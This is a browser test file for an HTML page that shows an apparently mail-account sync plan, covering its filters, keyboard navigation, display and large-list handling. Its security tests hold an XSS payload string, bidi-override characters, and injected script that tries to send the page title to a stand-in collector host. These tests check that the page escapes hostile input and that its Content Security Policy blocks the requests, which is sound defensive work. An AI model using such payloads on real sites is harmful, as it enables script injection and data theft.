/** The page of a plan in a real browser: what it shows, how it is used, and what it never does. */
import type { BrowserContextOptions } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderPlanHtml } from '../../src/cli/html/plan.ts';
import type { Plan } from '../../src/domain/plan.ts';
import { type PageBrowser, type PageLook, startBrowser } from '../support/browser.ts';
import { HOSTILE_PLAN, longPlan, MIXED } from '../support/plan-page.ts';

let browser: PageBrowser;
beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser?.[Symbol.asyncDispose]());

const DIGEST = `sha256:${'0'.repeat(64)}`;

function open(plan: Plan, options: BrowserContextOptions & { readonly hash?: string } = {}): Promise<PageLook> {
  return browser.open(renderPlanHtml({ plan, digest: DIGEST, author: 'ana@example.test' }), options);
}

/** The addresses in the list, in their order. */
function addresses({ page }: PageLook): Promise<readonly string[]> {
  return page.locator('.row .who > bdi').allTextContents();
}

const ALL = [
  'dora@acme.example',
  'lou@cedar.example',
  'stefan@acme.example',
  'kim@cedar.example',
  'kai@acme.example',
  'new@birch.example',
  'rosa.lindqvist@acme.example',
  'ann@acme.example',
  'team@birch.example',
];

describe('what a plan page says', () => {
  it('has the totals, what is held back with its hint, the share of each customer, and the days', async () => {
    await using look = await open(MIXED);
    const text = await look.page.locator('body').innerText();
    expect(text).toContain('Plan for 4 customers');
    expect(text).toContain('2026-11-20 12:00 UTC');
    expect(text).toContain('ana@example.test');
    expect(text).toContain(DIGEST);
    expect(await look.page.locator('.verdict').innerText()).toBe(
      '1 customer is blocked, and 2 removals with it. 1 customer is not planned. 1 recipient loses mail when this is applied, 1 alias goes and 1 is flagged, to be deleted when due.',
    );
    expect(await look.page.locator('.tiles li').first().innerText()).toMatch(/^1\s+to delete$/);
    expect(text).toContain('Too many removals: 1 of 1 users.');
    expect(text).toMatch(/doe is not planned\s+LDAP_CONNECT The server did not answer\.\s+Look at its name\./);
    expect(await look.page.locator('.radius .name').allTextContents()).toEqual(['cedar', 'acme', 'birch']);
    expect(await look.page.locator('.radius li').nth(1).innerText()).toMatch(
      /1 removed, 1 flagged \(40\.0%\), 3 changed of 5/,
    );
    expect(await look.page.locator('.strip a').allTextContents()).toEqual([
      '1 deleted by this plan',
      '2 due on Friday, 4 December 2026',
    ]);
    expect(await addresses(look)).toEqual(ALL);
    expect(look.incidents).toEqual([]);
  });
});

describe('filters', () => {
  it('can be only removals, which a lost alias is', async () => {
    await using look = await open(MIXED);
    await look.page.getByRole('button', { name: 'removals 5' }).click();
    expect(await addresses(look)).toEqual([...ALL.slice(0, 4), 'kai@acme.example']);
    expect(new URL(look.page.url()).hash).toBe('#removals=only');
    await look.page.locator('.line', { hasText: 'kai@' }).click();
    expect(await look.page.locator('.detail .without').innerText()).toBe('Without shop@acme.example');
  });

  it('go by action, customer, rule, search and day, together and each for itself', async () => {
    await using look = await open(MIXED);
    const { page } = look;
    const clear = page.getByRole('button', { name: 'Clear filters' });
    await page.getByRole('button', { name: 'flag 2' }).click();
    expect(await addresses(look)).toEqual(['stefan@acme.example', 'kim@cedar.example']);
    await page.getByLabel('Customer').selectOption('cedar');
    expect(await addresses(look)).toEqual(['kim@cedar.example']);
    expect(await page.getByRole('status').innerText()).toBe('1 of 9 changes');
    await clear.click();
    await page.getByLabel('Rule').selectOption('SEL-9');
    expect(await addresses(look)).toEqual(['team@birch.example']);
    await clear.click();
    const search = page.getByRole('searchbox');
    for (const [words, found] of [
      ['LINDQVIST', ['rosa.lindqvist@acme.example']],
      ['rosa.keane@', ['rosa.lindqvist@acme.example']],
      ['sales@acme', ['ann@acme.example']],
      ['noa birch', ['new@birch.example']],
      ['nobody', []],
    ] as const) {
      await search.fill(words);
      expect(await addresses(look)).toEqual(found);
    }
    expect(await page.getByText('No change fits these filters.').isVisible()).toBe(true);
    await clear.click();
    await page.locator('.strip .due').click();
    await expect.poll(() => addresses(look)).toEqual(['stefan@acme.example', 'kim@cedar.example']);
    await page.getByRole('button', { name: /Due on 2026-12-04/ }).click();
    expect(await addresses(look)).toEqual(ALL);
    expect(look.incidents).toEqual([]);
  });

  it('stand in the address, which leads others to the same', async () => {
    await using first = await open(MIXED);
    await first.page.getByRole('button', { name: 'update 3' }).click();
    await first.page.getByRole('searchbox').fill('ann');
    await first.page.locator('.line').click();
    const { hash } = new URL(first.page.url());
    await using second = await open(MIXED, { hash });
    expect(await addresses(second)).toEqual(['ann@acme.example']);
    expect(await second.page.getByRole('searchbox').inputValue()).toBe('ann');
    expect(await second.page.locator('.detail').innerText()).toContain('HR');
    await second.page.locator('.radius .name', { hasText: 'acme' }).click();
    await expect.poll(() => second.page.getByLabel('Customer').inputValue()).toBe('acme');
    await using odd = await open(MIXED, { hash: '#action=explode&open=999&list=7&customer=nobody' });
    expect(await addresses(odd)).toEqual([]);
    expect(await odd.page.getByText('There are no changes.').isVisible()).toBe(true);
    expect([...first.incidents, ...second.incidents, ...odd.incidents]).toEqual([]);
  });
});

describe('a row that is unfolded', () => {
  it('has reasons, and what was there beside what will be, with the words that differ', async () => {
    await using look = await open(MIXED, { hash: '#action=rename' });
    const { page } = look;
    await page.locator('.line').click();
    expect(await page.locator('.detail .reasons').innerText()).toContain('The object id is the person');
    const cell = (field: string, side: string, mark: string) =>
      page.locator(`.detail tr:has(th:text-is("${field}")) .${side} ${mark}`).allTextContents();
    expect(await cell('address', 'before', 'del')).toEqual(['keane']);
    expect(await cell('address', 'after', 'ins')).toEqual(['lindqvist']);
    expect(await cell('notes', 'before', 'del')).toEqual(['northern']);
    expect(await cell('notes', 'after', 'ins')).toEqual(['southern']);
    expect(await cell('aliases', 'after', 'ins')).toEqual(['rosa.keane@acme.example']);
    expect(await cell('allow', 'after', 'ins')).toEqual(['letters.example']);
    expect(await cell('allow', 'before', 'del')).toEqual([]);
    await page.locator('.line').click();
    expect(await page.locator('.detail').isVisible()).toBe(false);
    expect(look.incidents).toEqual([]);
  });
});

describe('the keyboard', () => {
  it('searches with /, goes with j, k and the arrows, unfolds with Enter, goes back with Escape', async () => {
    await using look = await open(MIXED);
    const { page } = look;
    const focused = () => page.locator('.line:focus .who > bdi').textContent();
    await page.keyboard.press('/');
    await page.keyboard.type('acme');
    await page.keyboard.press('ArrowDown');
    expect(await focused()).toBe('dora@acme.example');
    await page.keyboard.press('j');
    expect(await focused()).toBe('stefan@acme.example');
    await page.keyboard.press('Enter');
    expect(await page.locator('.detail:visible').count()).toBe(1);
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('k');
    expect(await focused()).toBe('stefan@acme.example');
    await page.keyboard.press('Escape');
    expect(await page.locator('.detail:visible').count()).toBe(0);
    await page.keyboard.press('End');
    expect(await focused()).toBe('ann@acme.example');
    await page.keyboard.press('/');
    await page.keyboard.press('Escape');
    expect(await addresses(look)).toEqual(ALL);
    expect(look.incidents).toEqual([]);
  });

  it('reaches every control and row by Tab, and shows where it is', async () => {
    await using look = await open(MIXED);
    const { page } = look;
    const reached: string[] = [];
    for (let step = 0; step < 60; step += 1) {
      await page.keyboard.press('Tab');
      const outline: string = await page.evaluate('getComputedStyle(document.activeElement).outlineStyle');
      if ((await page.evaluate('document.activeElement.tagName')) === 'BODY') break;
      expect(outline).toBe('solid');
      reached.push(await page.evaluate('document.activeElement.className + " " + document.activeElement.tagName'));
    }
    expect(reached.filter((name) => name === 'line BUTTON')).toHaveLength(9);
    expect(reached.filter((name) => name.endsWith('SELECT'))).toHaveLength(2);
    expect(reached.filter((name) => name.endsWith('INPUT'))).toHaveLength(1);
    expect(reached.filter((name) => name === 'name A')).toHaveLength(3);
  });
});

describe('20,000 changes', () => {
  it('can be used, with few rows in the document wherever one is', async () => {
    await using look = await open(longPlan(20_000));
    const { page } = look;
    const rows = () => page.locator('.row').count();
    expect(await page.getByRole('status').innerText()).toBe('20,000 changes');
    await page.getByRole('searchbox').fill('user19999@');
    await expect.poll(() => addresses(look)).toEqual(['user19999@acme.example']);
    await page.getByRole('searchbox').fill('');
    await page.locator('.line').first().focus();
    expect(await rows()).toBeLessThan(80);
    await page.keyboard.press('End');
    expect(await page.locator('.line:focus .who > bdi').textContent()).toBe('user19999@acme.example');
    expect(await page.locator('.row:focus-within').getAttribute('aria-posinset')).toBe('20000');
    expect(await rows()).toBeLessThan(80);
    await page.keyboard.press('Enter');
    expect(await page.locator('.detail:visible').innerText()).toContain('HR');
    await page.evaluate('scrollTo(0, document.documentElement.scrollHeight / 2)');
    await expect.poll(() => page.locator('.row[aria-posinset="10000"]').count()).toBe(1);
    expect(await rows()).toBeLessThan(80);
    expect(look.incidents).toEqual([]);
  });
});

describe('how it looks', () => {
  it('is light or dark as the system has it, until somebody chooses', async () => {
    const ground = (look: PageLook) =>
      look.page.evaluate<string>('getComputedStyle(document.documentElement).backgroundColor');
    await using light = await open(MIXED, { colorScheme: 'light' });
    await using dark = await open(MIXED, { colorScheme: 'dark' });
    const [bright, dim] = [await ground(light), await ground(dark)];
    expect(bright).not.toBe(dim);
    await dark.page.getByRole('button', { name: 'light' }).click();
    expect(await ground(dark)).toBe(bright);
    await light.page.getByRole('button', { name: 'dark' }).click();
    expect(await ground(light)).toBe(dim);
    await dark.page.getByRole('button', { name: 'auto' }).click();
    expect(await ground(dark)).toBe(dim);
  });

  it('fits a window of 360 pixels', async () => {
    await using look = await open(MIXED, { viewport: { width: 360, height: 740 } });
    for (const line of await look.page.locator('.line').all()) await line.click();
    expect(await look.page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360);
  });

  it('has every removal unfolded on paper', async () => {
    await using look = await open(MIXED);
    await look.page.emulateMedia({ media: 'print' });
    await expect.poll(() => look.page.locator('.printed article').count()).toBe(5);
    expect(await look.page.locator('.printed').innerText()).toContain('gone from the sync; due on 2026-12-04');
    await look.page.emulateMedia({ media: 'screen' });
    await expect.poll(() => look.page.locator('.printed').count()).toBe(0);
  });
});

describe('hostile text', () => {
  it('stays text wherever it is shown', async () => {
    await using look = await open(HOSTILE_PLAN);
    const { page } = look;
    for (const line of await page.locator('.line').all()) await line.click();
    for (const summary of await page.locator('summary:visible').all()) await summary.click();
    expect(await page.locator('img, iframe, #stray').count()).toBe(0);
    expect(await page.locator('script').count()).toBe(2);
    const text = await page.locator('main').innerText();
    expect(text).toContain('<img src=x onerror=alert(1)>');
    expect(text).toContain('\\u{202e}txt.exe\\u{7}\\u{1b}[31m');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
    expect(text).not.toMatch(/[\u0007\u001b\u202a-\u202e\u2066-\u2069]/u);
    expect(await page.locator('.detail bdi', { hasText: /^כהן$/ }).count()).toBeGreaterThan(0);
    expect(look.incidents).toEqual([]);
  });

  it('stays text without a script too', async () => {
    await using look = await open(HOSTILE_PLAN, { javaScriptEnabled: false });
    expect(await look.page.locator('img, iframe, #stray').count()).toBe(0);
    expect(await look.page.locator('.removals tbody tr').count()).toBe(6);
    expect(look.incidents).toEqual([]);
  });
});

describe('the policy of the page', () => {
  it('lets nothing run or load that is not its own', async () => {
    await using look = await open(MIXED);
    const outcome = await look.page.evaluate<readonly string[]>(`(async () => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "run"';
      document.body.append(script);
      document.body.setAttribute('onclick', 'document.title = "clicked"');
      document.body.click();
      const image = new Image();
      const loaded = await new Promise((resolve) => {
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve('refused');
        image.src = 'https://collector.example/?' + document.title;
      });
      const sent = await fetch('https://collector.example/').then(() => 'sent', () => 'refused');
      return [document.title, loaded, sent];
    })()`);
    expect(outcome).toEqual(['Plan for 4 customers · Rollcall', 'refused', 'refused']);
    for (const refused of [
      /Loading the image/,
      /Connecting to 'https:\/\/collector/,
      /inline script/,
      /inline event handler/,
    ]) {
      await expect.poll(() => look.incidents.join('\n')).toMatch(refused);
    }
    expect(look.incidents.join('\n')).toContain('Content Security Policy');
  });
});

describe('without JavaScript', () => {
  it('says the totals and every removal', async () => {
    await using look = await open(MIXED, { javaScriptEnabled: false });
    expect(await look.page.locator('.tiles').innerText()).toMatch(/1\s+to delete/);
    expect(await look.page.locator('noscript p').innerText()).toContain('5 removals of 9 changes, in full');
    expect(await look.page.locator('.removals tbody tr td:nth-child(3)').allInnerTexts()).toEqual([
      'dora@acme.example',
      'lou@cedar.example',
      'stefan@acme.example',
      'kim@cedar.example',
      'kai@acme.example',
    ]);
    expect(await look.page.locator('.removals tr').last().innerText()).toContain('without shop@acme.example');
    expect(await look.page.locator('#changes').isVisible()).toBe(false);
    expect(look.incidents).toEqual([]);
  });
});
